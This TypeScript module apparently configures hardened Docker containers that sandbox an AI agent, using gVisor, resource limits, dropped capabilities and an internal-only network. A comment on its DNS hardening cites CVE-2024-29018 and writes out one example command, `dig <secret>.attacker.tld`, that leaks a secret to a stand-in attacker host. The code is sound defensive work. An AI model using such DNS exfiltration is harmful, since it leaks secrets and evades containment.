import { dirname } from "node:path";
import { type SuperviseDirs, superviseDirs } from "../../lib/home-layout.ts";
import type { BottlePlan } from "../../plan/bottle-plan.ts";

import { type ResourceRole, resourceName, type SidecarRole } from "../instance.ts";
import { AGENT_USER, AGENT_WORKDIR, bottleEnv, manifestEnv } from "./agent-env.ts";
import { type ContainerSpec, LABEL_INSTANCE, LABEL_ROLE, type Labels } from "./engine/engine.ts";
import { GVISOR_RUNTIME } from "./isolation.ts";
import { credProxyAgentEnv } from "./provision/cred-proxy-roles.ts";

export interface ImageRefs {
  agent: string;
  sidecar: string;
}

export interface DockerBottlePlan {
  instance: string;
  plan: BottlePlan;
  images: ImageRefs;
  owner: Ownership;
  /** The agent's OCI runtime (isolation.ts): `runsc` for gVisor; absent for the engine's default. */
  runtime?: string;
  networks: { internal: string; egress: string };
  agent: ContainerSpec & { name: string };
  /** The uid:gid the sidecars that write into host dirs run as (`sidecarWriter`). */
  hostUser: { uid: number; gid: number };
  /** Host dir of this instance's logs, which the sidecars append to. */
  logDir: string;
  /** Host dirs of supervise (queue, current config, audit) when the plan enables it. */
  supervise?: SuperviseDirs;
}

export interface PrepareInput {
  plan: BottlePlan;
  instance: string;
  images: ImageRefs;
  /** Answers to the manifest's `?prompt` env entries. */
  answers: Readonly<Record<string, string>>;
  /** The agent's OCI runtime, from the bottle's isolation (isolation.ts); absent: the engine's default. */
  runtime?: string;
  owner: Ownership;
  /** Host dir for this instance's logs (the egress audit log), bind-mounted into the proxy. */
  logDir: string;
  /** Who the sidecars that write logDir and the queue run as (`sidecarWriter`); they own those dirs. */
  hostUser: { uid: number; gid: number };
  /** The claude-bottle home; default: the parent of logDir's parent (`<home>/logs/<instance>`). */
  home?: string;
}

/**
 * On gVisor the agent's processes live in the sandbox's kernel, which enforces RLIMIT_NPROC (the
 * bottle's `limits.processes`, refused with EAGAIN beyond). The host's pids limit then counts the
 * sandbox's own threads, about two per guest process (runsc 2024-07, measured with 1015 `sleep`s:
 * 2074), so it gets four times the room; at the host limit the whole sandbox would stop.
 */
const GVISOR_HOST_PIDS_PER_PROCESS = 4;

/**
 * The agent answers a no-op now and then: on gVisor a sandbox whose kernel the host OOM-killed
 * still reads "running", so `status` and the watcher learn of it from this check.
 */
const AGENT_HEALTHCHECK = {
  shellCommand: "true",
  intervalMs: 30_000,
  timeoutMs: 10_000,
  retries: 2,
  startPeriodMs: 30_000,
} as const;
const SIDECAR_LIMITS = { pids: 512, memoryBytes: 1024 ** 3, cpus: 1 } as const;

/**
 * For containers on the internal network only (the agent, cred-proxy, supervise): Docker's
 * embedded resolver still answers the bottle's container names, but forwards every other name to
 * this address inside the container's own namespace, where nothing answers. Without it, engines
 * before 26.0.2 forward those names through the host's namespace when the host's resolver is on
 * loopback (CVE-2024-29018): `dig <secret>.attacker.tld` would leave the bottle.
 */
export const NO_OUTSIDE_DNS = { dns: ["127.0.0.1"] } as const;

/** Hardening every container of a bottle gets (G7). */
const HARDENING = { capDrop: ["ALL"], securityOpt: ["no-new-privileges"], init: true } as const;

export const LABEL_OWNER_PID = "claude-bottle.owner-pid";
export const LABEL_MODE = "claude-bottle.mode";

export interface Ownership {
  /** PID of the CLI that launched the bottle. */
  pid: number;
  /** Attached bottles live as long as that CLI; detached ones as long as their agent runs. */
  mode: "attached" | "detached";
}

/**
 * The uid:gid the sidecars that write host dirs (egress-proxy's logs, supervise's queue) run as:
 * the CLI's own, so its user can read and move what they write, but never root. When the CLI runs
 * as root they run as a fixed unprivileged id, and the CLI hands them the dirs (`giveDirTo`).
 */
const SIDECAR_WRITER = { uid: 10001, gid: 10001 } as const;

export function sidecarWriter(cli: { uid: number; gid: number }): { uid: number; gid: number } {
  return cli.uid === 0 ? { ...SIDECAR_WRITER } : cli;
}

export function labelsFor(instance: string, role: ResourceRole, owner?: Ownership): Labels {
  return {
    [LABEL_INSTANCE]: instance,
    [LABEL_ROLE]: role,
    ...(owner === undefined ? {} : { [LABEL_OWNER_PID]: String(owner.pid), [LABEL_MODE]: owner.mode }),
  };
}

/**
 * What every sidecar container shares: the sidecar image, its name and labels, the hardening and
 * limits of G7, on the internal network. A sidecar module adds its command, env and aliases.
 * Sidecars run on the engine's default runtime, not the agent's gVisor: it would cost every request the
 * agent makes, and the kernel-exploit threat is the agent's (docs/isolation.md has the figures).
 */
export function sidecarBase(
  docker: Pick<DockerBottlePlan, "instance" | "images" | "owner">,
  role: SidecarRole,
): ContainerSpec & { name: string } {
  return {
    name: resourceName(docker.instance, role),
    image: docker.images.sidecar,
    labels: labelsFor(docker.instance, role, docker.owner),
    ...HARDENING,
    pidsLimit: SIDECAR_LIMITS.pids,
    memoryBytes: SIDECAR_LIMITS.memoryBytes,
    cpus: SIDECAR_LIMITS.cpus,
    network: resourceName(docker.instance, "internal-network"),
  };
}

/**
 * A bottle's names, host dirs and agent container spec, from its plan; each sidecar's spec comes
 * from its module (sidecars/), built on this. Pure: no engine call.
 */
export function prepareDocker(input: PrepareInput): DockerBottlePlan {
  const { plan, instance } = input;
  const networks = {
    internal: resourceName(instance, "internal-network"),
    egress: resourceName(instance, "egress-network"),
  };
  const runtime = input.runtime === undefined ? {} : { runtime: input.runtime };
  const base = { instance, images: input.images, owner: input.owner, ...runtime };
  const supervise = plan.supervise.enabled
    ? superviseDirs(input.home ?? dirname(dirname(input.logDir)), instance)
    : undefined;
  return {
    ...base,
    plan,
    networks,
    hostUser: input.hostUser,
    logDir: input.logDir,
    ...(supervise === undefined ? {} : { supervise }),
    agent: {
      name: resourceName(instance, "agent"),
      image: input.images.agent,
      labels: labelsFor(instance, "agent", input.owner),
      ...HARDENING,
      ...runtime,
      ...NO_OUTSIDE_DNS,
      ...(input.runtime === GVISOR_RUNTIME
        ? {
            pidsLimit: GVISOR_HOST_PIDS_PER_PROCESS * plan.limits.processes,
            ulimits: { nproc: plan.limits.processes },
          }
        : { pidsLimit: plan.limits.processes }),
      memoryBytes: plan.limits.memoryBytes,
      cpus: plan.limits.cpus,
      ...(plan.limits.diskBytes === undefined ? {} : { diskBytes: plan.limits.diskBytes }),
      healthcheck: AGENT_HEALTHCHECK,
      network: networks.internal,
      hostname: plan.agent.name.slice(0, 63),
      user: AGENT_USER,
      workdir: AGENT_WORKDIR,
      // cred-proxy's anthropic-base-url role: set at create time so every process sees it.
      env: { ...manifestEnv(plan, input.answers), ...bottleEnv(), ...credProxyAgentEnv(plan) },
      // The agent idles; Claude Code and `exec` run beside it, so a crash of either ends nothing.
      entrypoint: "sleep",
      command: ["infinity"],
    },
  };
}
